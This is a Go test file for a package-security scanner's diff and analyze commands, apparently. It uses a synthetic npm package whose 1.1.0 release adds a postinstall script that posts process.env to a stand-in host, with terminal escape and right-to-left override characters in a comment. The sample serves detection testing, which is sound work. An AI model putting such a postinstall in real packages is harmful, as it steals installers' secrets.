package cli

import (
	"bytes"
	"context"
	"crypto/sha1"
	"crypto/sha512"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"flag"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/vigil-sec/vigil/internal/tarball/tarballtest"
)

var updateDiffGolden = flag.Bool("update-diff", false, "rewrite the golden files in testdata/diff/")

// padLite is a synthetic package, three releases: 1.0.0 and 1.0.1 built
// by CI with trusted publishing; 1.1.0 published twenty minutes after
// 1.0.1 by a new maintainer from a laptop, with a postinstall that sends
// the environment to a metrics host and a comment full of terminal
// escape sequences. Written for these tests; not taken from any package.
var padLite = map[string]map[string]string{
	"1.0.0": {
		"package.json": `{"name":"pad-lite","version":"1.0.0","description":"Pads strings on the left","main":"index.js","license":"MIT"}` + "\n",
		"index.js":     "'use strict';\nmodule.exports = function pad(s, n, c) {\n  s = String(s);\n  c = c || ' ';\n  while (s.length < n) s = c + s;\n  return s;\n};\n",
		"README.md":    "# pad-lite\n\nPads strings on the left.\n",
	},
	"1.0.1": {
		"package.json": `{"name":"pad-lite","version":"1.0.1","description":"Pads strings on the left","main":"index.js","license":"MIT"}` + "\n",
		"index.js":     "'use strict';\nmodule.exports = function pad(s, n, c) {\n  s = String(s);\n  c = c === undefined ? ' ' : String(c);\n  while (s.length < n) s = c + s;\n  return s;\n};\n",
		"README.md":    "# pad-lite\n\nPads strings on the left.\n\n```js\npad('7', 3, '0') // '007'\n```\n",
	},
	"1.1.0": {
		"package.json": `{"name":"pad-lite","version":"1.1.0","description":"Pads strings on the left","main":"index.js","license":"MIT",` +
			`"scripts":{"postinstall":"node setup.js"},"dependencies":{"pad-lite-native":"^1.0.0"}}` + "\n",
		"index.js":  "'use strict';\nmodule.exports = function pad(s, n, c) {\n  s = String(s);\n  c = c === undefined ? ' ' : String(c);\n  while (s.length < n) s = c + s;\n  return s;\n};\n",
		"README.md": "# pad-lite\n\nPads strings on the left.\n\n```js\npad('7', 3, '0') // '007'\n```\n",
		"setup.js": "// native helper setup \x1b[2J\x1b]0;pwned\x07 \u202etxt.exe\n" +
			"const https = require('https');\n" +
			"const body = JSON.stringify(process.env);\n" +
			"const req = https.request({ hostname: 'pad-lite-metrics.example', path: '/v1/collect', method: 'POST' });\n" +
			"req.end(body);\n",
	},
}

// padLiteRegistry serves pad-lite the way registry.npmjs.org does: the
// full packument (testdata/diff/pad-lite.packument.json, with each
// version's real integrity, shasum, size and tarball URL filled in) and
// the tarballs.
func padLiteRegistry(t *testing.T) *httptest.Server {
	t.Helper()
	tarballs := map[string][]byte{}
	tmpl, err := os.ReadFile(filepath.Join("testdata", "diff", "pad-lite.packument.json"))
	if err != nil {
		t.Fatal(err)
	}
	doc := string(tmpl)
	for v, files := range padLite {
		tgz := tarballtest.Pack(t, files)
		tarballs["/pad-lite/-/pad-lite-"+v+".tgz"] = tgz
		s512 := sha512.Sum512(tgz)
		s1 := sha1.Sum(tgz)
		size := 0
		for _, f := range files {
			size += len(f)
		}
		doc = strings.NewReplacer(
			"@@INTEGRITY "+v+"@@", "sha512-"+base64.StdEncoding.EncodeToString(s512[:]),
			"@@SHASUM "+v+"@@", hex.EncodeToString(s1[:]),
			"@@FILECOUNT "+v+"@@", fmt.Sprint(len(files)),
			"@@UNPACKEDSIZE "+v+"@@", fmt.Sprint(size),
		).Replace(doc)
	}
	var srv *httptest.Server
	srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch p := r.URL.EscapedPath(); {
		case p == "/pad-lite":
			w.Header().Set("Content-Type", "application/json")
			_, _ = w.Write([]byte(strings.ReplaceAll(doc, "@@REGISTRY@@", srv.URL)))
		case tarballs[p] != nil:
			w.Header().Set("Content-Type", "application/octet-stream")
			_, _ = w.Write(tarballs[p])
		default:
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(http.StatusNotFound)
			_, _ = w.Write([]byte(`{"error":"Not found"}`))
		}
	}))
	t.Cleanup(srv.Close)
	return srv
}

func runDiffCLI(t *testing.T, args ...string) (code int, stdout, stderr string) {
	t.Helper()
	var out, errb bytes.Buffer
	code = Run(context.Background(), append([]string{"diff"}, args...), strings.NewReader(""), &out, &errb)
	return code, out.String(), errb.String()
}

// checkGolden compares got with testdata/diff/name (rewritten with
// -update-diff), after replacing the test server's URL.
func checkGolden(t *testing.T, name, got, srvURL string) {
	t.Helper()
	if srvURL != "" {
		got = strings.ReplaceAll(got, srvURL, "http://registry.test")
	}
	path := filepath.Join("testdata", "diff", name)
	if *updateDiffGolden {
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run with -update-diff to create it)", err)
	}
	if got != string(want) {
		t.Errorf("%s differs from the golden file (run with -update-diff to accept):\n%s", name, got)
	}
}

func assertNoEscapes(t *testing.T, out string) {
	t.Helper()
	for _, bad := range []string{"\x1b", "\x07", "\u202e"} {
		if strings.Contains(out, bad) {
			t.Errorf("output carries %q from the package", bad)
		}
	}
}

func TestDiffPreviousReleaseTable(t *testing.T) {
	srv := padLiteRegistry(t)
	code, out, errs := runDiffCLI(t, "pad-lite@1.1.0", "--registry", srv.URL)
	if code != ExitClean {
		t.Fatalf("exit %d; stderr: %s", code, errs)
	}
	assertNoEscapes(t, out)
	for _, want := range []string{
		"pad-lite@1.0.1 → pad-lite@1.1.0",
		"trust-downgrade (+12 with new behaviour)", "publisher-changed", "publish-burst", "maintainer-added",
		"+ scripts.postinstall: node setup.js   [LIFECYCLE: runs on every install]",
		"+ dependencies.pad-lite-native: ^1.0.0",
		"added    code     setup.js",
		`\x1b[2J\x1b]0;pwned\x07`,
	} {
		if !strings.Contains(out, want) {
			t.Errorf("table lacks %q", want)
		}
	}
	checkGolden(t, "previous.table.golden", out, srv.URL)
}

func TestDiffRegistryJSON(t *testing.T) {
	srv := padLiteRegistry(t)
	code, out, errs := runDiffCLI(t, "pad-lite@1.0.0", "pad-lite@1.1.0", "--registry", srv.URL, "--format", "json", "--context", "1")
	if code != ExitClean {
		t.Fatalf("exit %d; stderr: %s", code, errs)
	}
	assertNoEscapes(t, out)
	var doc struct {
		SchemaVersion string `json:"schema_version"`
		A, B          struct {
			Kind  string `json:"kind"`
			Fetch struct {
				Verified bool `json:"verified"`
			} `json:"fetch"`
		}
		Diff struct {
			Files struct {
				Changed []struct {
					Path string `json:"path"`
					Text *struct {
						Hunks []json.RawMessage `json:"hunks"`
					} `json:"text"`
				} `json:"changed"`
			} `json:"files"`
			Signals []struct {
				Kind string `json:"kind"`
			} `json:"signals"`
		} `json:"diff"`
		WithHistory struct {
			Verdict string `json:"verdict"`
			Score   int    `json:"score"`
		} `json:"with_history"`
	}
	if err := json.Unmarshal([]byte(out), &doc); err != nil {
		t.Fatalf("JSON does not parse: %v", err)
	}
	if doc.SchemaVersion != "1.0" || doc.A.Kind != "registry" || !doc.B.Fetch.Verified || len(doc.Diff.Signals) == 0 || doc.WithHistory.Verdict == "" {
		t.Errorf("document: %+v", doc)
	}
	checkGolden(t, "registry.json.golden", out, srv.URL)
}

func TestDiffTarballsAndFolders(t *testing.T) {
	dir := t.TempDir()
	a := filepath.Join(dir, "a.tgz")
	if err := os.WriteFile(a, tarballtest.Pack(t, padLite["1.0.1"]), 0o644); err != nil {
		t.Fatal(err)
	}
	folder := filepath.Join(dir, "b")
	for name, data := range padLite["1.1.0"] {
		if err := os.MkdirAll(folder, 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(folder, name), []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	code, out, errs := runDiffCLI(t, a, folder, "--format", "json")
	if code != ExitClean {
		t.Fatalf("exit %d; stderr: %s", code, errs)
	}
	var doc struct {
		Diff struct {
			A, B struct{ Name, Version, Integrity string }
		} `json:"diff"`
		WithHistory struct{ Verdict string } `json:"with_history"`
	}
	if err := json.Unmarshal([]byte(out), &doc); err != nil {
		t.Fatal(err)
	}
	if doc.Diff.A.Version != "1.0.1" || doc.Diff.B.Version != "1.1.0" || !strings.HasPrefix(doc.Diff.A.Integrity, "sha512-") || doc.Diff.B.Integrity != "" {
		t.Errorf("identities: %+v", doc.Diff)
	}
	if !strings.Contains(out, `"signals": []`) {
		t.Error("local releases should have no registry signals")
	}

	// --fail-on reads B's verdict with history.
	failCode := map[string]int{"none": ExitClean, "suspicious": ExitClean, "malicious": ExitClean}
	switch doc.WithHistory.Verdict {
	case "malicious":
		failCode["suspicious"], failCode["malicious"] = ExitFindings, ExitFindings
	case "suspicious":
		failCode["suspicious"] = ExitFindings
	default:
		t.Fatalf("the postinstall sending the environment out should not be clean with history: %s", doc.WithHistory.Verdict)
	}
	for level, want := range failCode {
		if code, _, errs := runDiffCLI(t, a, folder, "--fail-on", level); code != want {
			t.Errorf("--fail-on %s: exit %d, want %d (%s)", level, code, want, errs)
		}
	}

	out2 := filepath.Join(dir, "report.txt")
	if code, stdout, errs := runDiffCLI(t, a, folder, "--no-code", "--output", out2); code != ExitClean || stdout != "" {
		t.Fatalf("--output: exit %d, stdout %q, stderr %s", code, stdout, errs)
	}
	written, err := os.ReadFile(out2)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(written), "added    code     setup.js") || strings.Contains(string(written), "Code changes") {
		t.Errorf("--no-code report:\n%s", written)
	}
}

func TestDiffRegistryFromEnvironment(t *testing.T) {
	srv := padLiteRegistry(t)
	t.Setenv("VIGIL_REGISTRY", srv.URL)
	if code, out, errs := runDiffCLI(t, "pad-lite@1.0.1"); code != ExitClean || !strings.Contains(out, "pad-lite@1.0.0 → pad-lite@1.0.1") {
		t.Errorf("exit %d; stderr %s\n%s", code, errs, out)
	}
}

func TestDiffErrors(t *testing.T) {
	srv := padLiteRegistry(t)
	tgz := filepath.Join(t.TempDir(), "x.tgz")
	if err := os.WriteFile(tgz, tarballtest.Pack(t, padLite["1.0.0"]), 0o644); err != nil {
		t.Fatal(err)
	}
	notGzip := filepath.Join(t.TempDir(), "bad.tgz")
	if err := os.WriteFile(notGzip, []byte("not a tarball"), 0o644); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		args []string
		code int
		msg  string
	}{
		{[]string{tgz}, ExitUsage, "with a single release, give name@version"},
		{[]string{tgz, tgz, tgz}, ExitUsage, "accepts between 1 and 2 arg"},
		{[]string{tgz, "./missing.tgz"}, ExitUsage, "no such file or folder"},
		{[]string{tgz, "noversion@"}, ExitUsage, "not a file, a folder or name@version"},
		{[]string{tgz, "bad name@1"}, ExitUsage, "is not allowed"},
		{[]string{tgz, tgz, "--format", "xml"}, ExitUsage, "--format"},
		{[]string{tgz, tgz, "--context", "-1"}, ExitUsage, "--context"},
		{[]string{tgz, tgz, "--fail-on", "clean"}, ExitUsage, "--fail-on"},
		{[]string{"pad-lite@1.0.0", "--registry", srv.URL}, ExitUnexpected, "no previous release"},
		{[]string{"pad-lite@9.9.9", "--registry", srv.URL}, ExitUnexpected, "pad-lite@9.9.9"},
		{[]string{tgz, notGzip}, ExitUnexpected, "cannot read"},
	}
	for _, tt := range tests {
		code, _, errs := runDiffCLI(t, tt.args...)
		if code != tt.code || !strings.Contains(errs, tt.msg) {
			t.Errorf("diff %v: exit %d, stderr %q; want %d and %q", tt.args, code, errs, tt.code, tt.msg)
		}
	}
}

func TestDiffIdenticalReleases(t *testing.T) {
	tgz := filepath.Join(t.TempDir(), "x.tgz")
	if err := os.WriteFile(tgz, tarballtest.Pack(t, padLite["1.0.0"]), 0o644); err != nil {
		t.Fatal(err)
	}
	code, out, errs := runDiffCLI(t, tgz, tgz)
	if code != ExitClean {
		t.Fatalf("exit %d: %s", code, errs)
	}
	for _, want := range []string{"Files: 0 changed, 0 added, 0 removed, 3 unchanged", "package.json\n  no changes", "New findings in B (0)"} {
		if !strings.Contains(out, want) {
			t.Errorf("identical releases: output lacks %q:\n%s", want, out)
		}
	}
}

func TestCommas(t *testing.T) {
	for n, want := range map[int64]string{0: "0", 999: "999", 1000: "1,000", -76440: "-76,440", 2097152: "2,097,152"} {
		if got := commas(n); got != want {
			t.Errorf("commas(%d) = %q, want %q", n, got, want)
		}
	}
}

// TestAnalyzeAgainstPrevious: pad-lite@1.1.0's postinstall that sends the
// environment away is new in this release, so --against-previous weighs
// it more than a plain analysis does, says which release it compared
// with and lists the registry signals; 1.0.0, the first release, has
// nothing to compare with and keeps its score.
func TestAnalyzeAgainstPrevious(t *testing.T) {
	srv := padLiteRegistry(t)
	t.Setenv("VIGIL_CACHE_DIR", t.TempDir())
	analyzeJSON := func(args ...string) map[string]any {
		t.Helper()
		code, out, errs := run(t, append([]string{"analyze", "--registry", srv.URL, "--format", "json", "--fail-on", "none"}, args...)...)
		if code != ExitClean {
			t.Fatalf("exit %d; stderr: %s", code, errs)
		}
		var doc struct {
			Reports []map[string]any `json:"reports"`
		}
		if err := json.Unmarshal([]byte(out), &doc); err != nil || len(doc.Reports) != 1 {
			t.Fatalf("JSON: %v\n%s", err, out)
		}
		return doc.Reports[0]
	}
	plain := analyzeJSON("pad-lite@1.1.0")
	folded := analyzeJSON("--against-previous", "pad-lite@1.1.0")
	if plain["previous"] != nil {
		t.Errorf("plain analysis carries previous: %v", plain["previous"])
	}
	prev, _ := folded["previous"].(map[string]any)
	if prev == nil {
		t.Fatalf("no previous in %v", folded)
	}
	if prev["version"] != "1.0.1" {
		t.Errorf("compared with %v, want 1.0.1", prev["version"])
	}
	if prev["score_before"] != plain["score"] {
		t.Errorf("score_before %v, want the plain score %v", prev["score_before"], plain["score"])
	}
	if n, _ := prev["new_findings"].(float64); n < 1 {
		t.Errorf("new_findings %v, want ≥ 1", prev["new_findings"])
	}
	if s, p := folded["score"].(float64), plain["score"].(float64); s <= p {
		t.Errorf("folded score %v not above the plain %v", s, p)
	}
	sig, _ := prev["signals"].([]any)
	if !strings.Contains(fmt.Sprint(sig), "trust") {
		t.Errorf("signals %v lack the trust downgrade", sig)
	}
	reasons := fmt.Sprint(folded["reasons"])
	if !strings.Contains(reasons, "new in this release") && !strings.Contains(reasons, "new in") {
		t.Errorf("reasons do not say what is new: %s", reasons)
	}

	first := analyzeJSON("--against-previous", "pad-lite@1.0.0")
	p0, _ := first["previous"].(map[string]any)
	if p0 == nil || p0["note"] == nil || p0["version"] != nil {
		t.Errorf("first release: previous = %v, want a note and no version", p0)
	}

	code, out, errs := run(t, "analyze", "--registry", srv.URL, "--fail-on", "none", "--against-previous", "pad-lite@1.1.0")
	if code != ExitClean {
		t.Fatalf("exit %d; stderr: %s", code, errs)
	}
	assertNoEscapes(t, out)
	if !strings.Contains(out, "against previous release 1.0.1:") || !strings.Contains(out, "registry: ") {
		t.Errorf("table lacks the comparison:\n%s", out)
	}
}
